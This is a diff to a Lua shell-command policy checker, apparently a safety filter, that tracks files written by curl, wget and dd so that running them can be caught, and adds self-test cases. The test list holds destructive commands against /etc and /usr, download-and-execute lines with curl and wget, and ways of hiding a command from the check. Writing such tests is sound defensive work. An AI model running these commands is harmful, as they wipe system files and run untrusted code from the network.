@@ -602,13 +602,23 @@ RULES.busctl, RULES["dbus-send"], RULES.gdbus, RULES.qdbus = bus_rule, bus_rule,
     bus_rule
 
 -- Downloads written onto a disk or a system file.
-local function download_rule(c)
+-- The files curl or wget c writes its download to.
+local function download_targets(c)
   local _, opts = operands(c, "oOHdXeAwbDEKMPQrTtuUxYz", {output = true,
                            ["output-document"] = true, header = true, data = true,
                            request = true, ["user-agent"] = true, user = true})
+  local targets = {}
   for _, key in ipairs({"o", "O", "output", "output-document"}) do
-    local target = opts[key]
-    if type(target) == "string" and path_why(c, {}, target) then
+    if type(opts[key]) == "string" then
+      targets[#targets + 1] = opts[key]
+    end
+  end
+  return targets
+end
+
+local function download_rule(c)
+  for _, target in ipairs(download_targets(c)) do
+    if path_why(c, {}, target) then
       return c.name .. " writes its download onto a disk or a system file"
     end
   end
@@ -770,6 +780,17 @@ local function made_paths(r)
           add(dest .. "/" .. c.argv[ops[k]]:match("[^/]*$"), c.cwd)
         end
       end
+    elseif c.name == "dd" then
+      for i = 2, #c.argv do
+        local target = c.argv[i]:match("^of=(.+)")
+        if target and not c.words[i].dynamic then
+          add(target, c.cwd)
+        end
+      end
+    elseif RULES[c.name] == download_rule then
+      for _, target in ipairs(download_targets(c)) do
+        add(target, c.cwd)
+      end
     end
   end
   return made
@@ -891,6 +912,8 @@ function policy.self_test(t)
     "sed --in-place=.old -e 1d /etc/sudoers", "sed -ni p /etc/fstab", "unlink /etc/passwd",
     "rm --rec -f /etc", "rm --recu --force /usr", "chmod --recur 000 /", "chown --rec x /etc",
     "rsync -a --del /tmp/empty/ /etc/", "rsync -a --remove-source-files /etc/ /tmp/etc/",
+    "dd if=/sbin/reboot of=/tmp/r; /tmp/r", "curl -so /tmp/r http://x; chmod +x /tmp/r; /tmp/r",
+    "wget -O /tmp/x.py http://x && python3 /tmp/x.py",
     -- Lines the check cannot see through.
     "eval reboot", "x=reboot; $x", "`echo reboot`", "echo reboot | sh", "bash <<EOF\nreboot\nEOF",
     "source /tmp/x.sh", "f() { :; }; f", "python3 -c 'import os'", "sudo $CMD",
